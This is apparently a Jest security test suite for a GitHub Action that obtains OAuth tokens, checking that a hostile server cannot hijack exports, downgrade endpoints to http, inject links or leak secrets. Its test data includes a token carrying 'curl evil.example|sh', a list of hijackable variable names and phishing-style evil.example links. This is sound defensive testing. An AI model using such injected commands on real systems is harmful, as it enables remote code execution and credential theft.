// Security, round 2, through the built dist/: names and links a server cannot choose. A hostile
// server picks the token's text, the endpoints its discovery document lists, the scope shown in
// the job summary and the text of its errors; none of it may choose where the token is exported,
// where a credential is sent, what a reader of the summary clicks, or what the log shows. The
// runner is emulated as it reads stdout (see run-action.mjs), as in hostile.test.ts.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import {
  sendJson,
  startFaultServer,
  STENT_TOKEN_RESPONSE,
  type Script
} from '../__fixtures__/fault-server.js'
import { leakForms, postStepEnv, runAction, type ActionRun } from '../__fixtures__/run-action.mjs'
import { makeCertificates, makeSelfSigned } from '../__fixtures__/tls.js'
import { basicAuthorization } from '../src/auth/secret.js'

const ID = 'names-client'
// Each form differs: its base64 holds '+' and '/' (so base64url differs by more than padding),
// '"' changes its JSON form, "'" its form-encoding from its percent-encoding.
const SECRET = `names "secret" it's >>>??? +/=:%&é`
const TOKEN = STENT_TOKEN_RESPONSE.access_token

/** Where an attacker wants the credentials sent, over plain http. It must never see a request. */
let canary: Awaited<ReturnType<typeof startFaultServer>>
const servers: Array<{ close(): Promise<void> }> = []
beforeAll(async () => {
  canary = await startFaultServer((_req, res) => sendJson(res, 200, STENT_TOKEN_RESPONSE))
})
// The tests run one at a time: each counts only its own requests.
beforeEach(() => void canary.requests.splice(0))
afterAll(() => Promise.all([canary.close(), ...servers.map(server => server.close())]))

async function serve(script: Script, tls?: { key: string; cert: string }) {
  const server = await startFaultServer(script, tls)
  servers.push(server)
  return server
}

/** What every run must hold to: only the action's own commands, no secret shown, no stack. */
function expectSafe(run: ActionRun, values: string[] = []) {
  const names = run.commands.map(command => command.name)
  expect(names.filter(name => !['add-mask', 'debug', 'error', 'warning'].includes(name))).toEqual(
    []
  )
  expect(canary.requests).toHaveLength(0)
  expect(run.stdout + run.stderr).not.toMatch(/^\s+at /m)
  const basic = basicAuthorization(ID, SECRET)
  for (const value of [SECRET, basic, basic.slice('Basic '.length), ...values]) {
    for (const form of leakForms(value)) expect(run.log).not.toContain(form)
  }
}

const secretInputs = { 'client-id': ID, 'client-secret': SECRET }

describe('export-variable takes only a token variable', () => {
  it.each([
    'CC',
    'MAKEFLAGS',
    'CMAKE_C_COMPILER_LAUNCHER',
    'PIP_INDEX_URL',
    'DOCKER_HOST',
    'LESSOPEN'
  ])('%s is refused by name, with the rule, before any request', async name => {
    const run = await runAction({
      ...secretInputs,
      'token-url': canary.tokenUrl,
      'export-variable': name
    })
    expect(run.log).toMatch(
      new RegExp(
        `^::error::Input 'export-variable' names '${name}', which is not a token variable: the name must end in TOKEN or JWT`,
        'm'
      )
    )
    expect(run.code).toBe(1)
    expect(run.exported).toEqual({})
    expectSafe(run)
  })

  it('NODE_AUTH_TOKEN, which npm reads as a token, gets the token', async () => {
    const server = await serve((_req, res) => sendJson(res, 200, STENT_TOKEN_RESPONSE))
    const run = await runAction({
      ...secretInputs,
      'token-url': server.tokenUrl,
      'export-variable': 'NODE_AUTH_TOKEN'
    })
    expect(run.log).not.toMatch(/::error::/)
    expect(run.code).toBe(0)
    expect(run.exported).toEqual({ NODE_AUTH_TOKEN: TOKEN })
    expectSafe(run, [TOKEN])
  })
})

describe('a Bearer token holds to RFC 6750 §2.1, so its text is never shell text', () => {
  it.each([
    ['a semicolon', `${TOKEN};curl evil.example|sh`],
    ['a space', `${TOKEN} x`],
    ['a pipe', `${TOKEN}|sh`],
    ['a colon', `${TOKEN}:x`]
  ])('a token with %s is refused, never quoted, never exported', async (_what, token) => {
    const server = await serve((_req, res) =>
      sendJson(res, 200, { ...STENT_TOKEN_RESPONSE, access_token: token })
    )
    const run = await runAction({
      ...secretInputs,
      'token-url': server.tokenUrl,
      'export-variable': 'STENT_TOKEN'
    })
    expect(run.log).toMatch(
      /^::error::The token response \(HTTP 200\) has an invalid access_token: a Bearer token with characters RFC 6750 §2\.1 does not allow/m
    )
    expect(run.code).toBe(1)
    expect(run.outputs).toEqual({})
    expect(run.exported).toEqual({})
    expect(run.summary).toBe('')
    expectSafe(run, [token])
  })
})

describe('an https issuer cannot send the credentials to plain http', () => {
  // An https issuer on 127.0.0.1 is not the loopback-http exception: only its scheme counts.
  const certificates = makeCertificates(['localhost'], { loopback: true })
  const tlsEnv = { NODE_EXTRA_CA_CERTS: certificates.caFile }
  const selfSigned = makeSelfSigned('/CN=names-mtls-client')

  /** An https issuer whose discovery document lists `fields` over its own https endpoints. */
  const issuer = (fields: (plain: string) => Record<string, unknown>) =>
    serve((req, res) => {
      const origin = `https://${req.headers.host}`
      if (req.url === '/.well-known/openid-configuration') {
        return sendJson(res, 200, {
          issuer: origin,
          token_endpoint: `${origin}/token`,
          jwks_uri: `${origin}/jwks`,
          revocation_endpoint: `${origin}/revoke`,
          ...fields(canary.origin)
        })
      }
      return sendJson(res, 200, STENT_TOKEN_RESPONSE)
    }, certificates)

  it.each([
    ['token_endpoint', {}, {}],
    ['jwks_uri', { 'verify-token': 'true' }, {}],
    [
      'revocation_endpoint',
      { revoke: 'true' },
      postStepEnv({ 'revoke-token': TOKEN, isPost: 'true' })
    ]
  ])(
    'a discovered %s on http://127.0.0.1 is refused, and never asked',
    async (field, inputs, env) => {
      const server = await issuer(plain => ({ [field]: `${plain}/${field}` }))
      const run = await runAction(
        { ...secretInputs, issuer: server.origin, ...inputs },
        { env: { ...tlsEnv, ...env } }
      )
      expect(run.log).toMatch(
        new RegExp(
          `^::(error|warning)::.*The discovery document's ${field} must use https://, as the issuer does \\(got http://127\\.0\\.0\\.1:${canary.port}\\)`,
          'm'
        )
      )
      // The post step warns and never fails the job; the main step fails.
      expect(run.code).toBe(field === 'revocation_endpoint' ? 0 : 1)
      expect(run.outputs).toEqual({})
      expectSafe(run)
    }
  )

  it('a certificate client: a discovered mtls_endpoint_aliases.token_endpoint on http is refused', async () => {
    const server = await issuer(plain => ({
      mtls_endpoint_aliases: { token_endpoint: `${plain}/token` }
    }))
    const run = await runAction(
      {
        'client-id': ID,
        'auth-method': 'self_signed_tls_client_auth',
        'client-certificate': selfSigned.cert,
        'client-key': selfSigned.key,
        issuer: server.origin
      },
      { env: tlsEnv }
    )
    expect(run.log).toMatch(
      /^::error::The discovery document's mtls_endpoint_aliases\.token_endpoint must use https:\/\//m
    )
    expect(run.code).toBe(1)
    expectSafe(run, [selfSigned.key])
  })

  it('the same document over https lists https endpoints: a token', async () => {
    const server = await issuer(() => ({}))
    const run = await runAction({ ...secretInputs, issuer: server.origin }, { env: tlsEnv })
    expect(run.log).not.toMatch(/::error::/)
    expect(run.code).toBe(0)
    expect(server.requests.map(request => request.url)).toEqual([
      '/.well-known/openid-configuration',
      '/token'
    ])
    expectSafe(run, [TOKEN])
  })
})

/**
 * What GFM would make a link of: `www.` and `scheme://` as written in the source, and an e-mail
 * address (`mailto:` and `xmpp:` ones too) once character references are decoded.
 */
function autolinkTriggers(markdown: string): string[] {
  const decoded = markdown.replace(/&#(\d+);/g, (_match, code: string) =>
    String.fromCodePoint(Number(code))
  )
  return [...(markdown.match(/www\.|:\/\//gi) ?? []), ...(decoded.match(/[\w.+-]@[\w-]/g) ?? [])]
}

describe('no link in the job summary', () => {
  const scope = [
    '_www.evil.example/reauth',
    'security@evil.example',
    'mailto:help@evil.example',
    'xmpp:admin@evil.example',
    '*www.evil.example',
    '(www.evil.example',
    '~WWW.evil.example',
    'https://evil.example/login'
  ].join(' ')

  it('a scope, a client ID and a title full of autolink triggers', async () => {
    const server = await serve((_req, res) =>
      sendJson(res, 200, { ...STENT_TOKEN_RESPONSE, scope })
    )
    const run = await runAction({
      'client-id': 'deploy@evil.example',
      'client-secret': SECRET,
      'token-url': server.tokenUrl,
      'summary-title': 'Token for _www.evil.example and ops@evil.example'
    })
    expect(run.code).toBe(0)
    expect(run.outputs.scope).toBe(scope)
    expect(run.summary).toMatch(/^### Token for _www.*evil\.example/)
    expect(run.summary).toMatch(/^\| Scope \| _www.*evil\.example\/reauth /m)
    expect(run.summary).toMatch(/^\| Client ID \| deploy@.*evil\.example \|$/m)
    expect(autolinkTriggers(run.summary)).toEqual([])
    expectSafe(run, [TOKEN])
  })
})

describe('basic-encoding: raw with a colon in the client ID', () => {
  it('urn:x:client is refused before any request, naming the fix', async () => {
    const run = await runAction({
      'client-id': 'urn:x:client',
      'client-secret': SECRET,
      'auth-method': 'client_secret_basic',
      'basic-encoding': 'raw',
      'token-url': canary.tokenUrl
    })
    expect(run.log).toMatch(
      /^::error::Input 'client-id' holds ':', which a raw Basic credential cannot carry \(RFC 7617 §2.*Set basic-encoding: form, which encodes it, or auth-method: client_secret_post\./m
    )
    expect(run.code).toBe(1)
    expectSafe(run)
  })
})

describe('a server that echoes the secret shows none of its forms', () => {
  // Every form the action claims to hide (src/base/mask.ts secretForms), computed here independently.
  const form = new URLSearchParams([['', SECRET]]).toString().slice(1)
  const basic = basicAuthorization(ID, SECRET)
  const forms: Array<[string, string]> = [
    ['raw', SECRET],
    ['form-encoded, space as +', form],
    ['form-encoded, space as %20', form.replaceAll('+', '%20')],
    ['percent-encoded', encodeURIComponent(SECRET)],
    ['JSON-escaped', JSON.stringify(SECRET).slice(1, -1)],
    ['base64', Buffer.from(SECRET).toString('base64')],
    ['base64url', Buffer.from(SECRET).toString('base64url')],
    ['the Basic credential', basic],
    ['the Basic credential without its scheme', basic.slice('Basic '.length)]
  ]

  it('the forms all differ, base64url from base64 beyond the padding too', () => {
    expect(new Set(forms.map(([, value]) => value)).size).toBe(forms.length)
    const base64 = Buffer.from(SECRET).toString('base64')
    expect(Buffer.from(SECRET).toString('base64url')).not.toBe(base64.replace(/=+$/, ''))
  })

  it.each(forms)('%s, echoed in error_description', async (_name, value) => {
    const server = await serve((_req, res) =>
      sendJson(res, 401, { error: 'invalid_client', error_description: `got ${value} here` })
    )
    const run = await runAction(
      { ...secretInputs, 'auth-method': 'client_secret_basic', 'token-url': server.tokenUrl },
      { env: { RUNNER_DEBUG: '1' } }
    )
    expect(run.log).toMatch(
      /^::error::The token endpoint refused the request: HTTP 401, error 'invalid_client': got \*\*\* here\./m
    )
    expect(run.code).toBe(1)
    expect(server.requests).toHaveLength(1)
    for (const [, hidden] of forms) expect(run.log).not.toContain(hidden)
    expectSafe(run)
  })
})
